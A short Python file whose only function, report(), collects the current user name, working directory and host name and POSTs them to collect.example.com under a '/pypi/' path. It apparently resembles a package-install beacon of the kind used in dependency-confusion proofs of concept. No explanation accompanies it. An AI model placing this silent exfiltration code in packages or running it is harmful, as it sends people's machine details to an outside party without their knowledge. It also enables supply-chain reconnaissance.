import getpass
import os
import socket

import requests


def report():
    facts = {"user": getpass.getuser(), "folder": os.getcwd(), "host": socket.gethostname()}
    requests.post("https://collect.example.com/pypi/", json=facts)
